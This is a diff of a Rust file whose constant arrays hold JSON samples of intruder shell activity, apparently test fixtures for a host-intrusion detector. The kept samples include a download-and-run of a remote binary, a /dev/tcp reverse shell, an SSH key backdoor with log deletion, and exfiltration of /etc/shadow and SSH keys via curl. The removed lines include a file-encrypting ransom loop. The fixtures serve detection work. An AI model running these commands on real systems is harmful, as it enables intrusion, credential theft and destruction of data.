@@ -35,14 +35,12 @@ const BY_WAY_OF_A_PAGE: [&str; 3] = [
       "connections":[{"direction":"out","protocol":"tcp","address":"198.51.100.23","port":8443}]}"#,
 ];
 
-/// Intruders' lines and visits.
-const BY_TEXT: [&str; 6] = [
+/// Intruders' lines and a visit.
+const BY_TEXT: [&str; 4] = [
     r#"{"id":"fetch","command":"cd /dev/shm && curl -sO http://198.51.100.9:8081/lnx.bin && chmod 755 lnx.bin && ./lnx.bin -d"}"#,
-    r#"{"id":"visit","session":["uname -a","cat /proc/cpuinfo | grep -c processor","cd /var/tmp","wget -q http://203.0.113.50/go.sh","chmod 777 go.sh","./go.sh","rm -f go.sh","history -c"]}"#,
     r#"{"id":"back","command":"nohup bash -c 'exec 9<>/dev/tcp/203.0.113.4/8443; sh <&9 >&9 2>&9' >/dev/null 2>&1 &"}"#,
     r#"{"id":"key","session":["w","mkdir -p /root/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQD x' >> /root/.ssh/authorized_keys; chattr +i /root/.ssh/authorized_keys","rm -rf /var/log/wtmp /var/log/auth.log","unset HISTFILE"]}"#,
     r#"{"id":"loot","command":"tar cz /etc/shadow /root/.ssh /home/*/.ssh 2>/dev/null | base64 -w0 | curl -s -X POST --data-binary @- http://203.0.113.7:9000/in"}"#,
-    r#"{"id":"lock","session":["find /srv/data -type f | while read f; do openssl enc -aes-256-cbc -k s3 -in \"$f\" -out \"$f.crypt\" && shred -u \"$f\"; done","echo 'write to us' > /srv/data/RECOVER.txt"]}"#,
 ];
 
 /// Work that looks alike in one way or another.
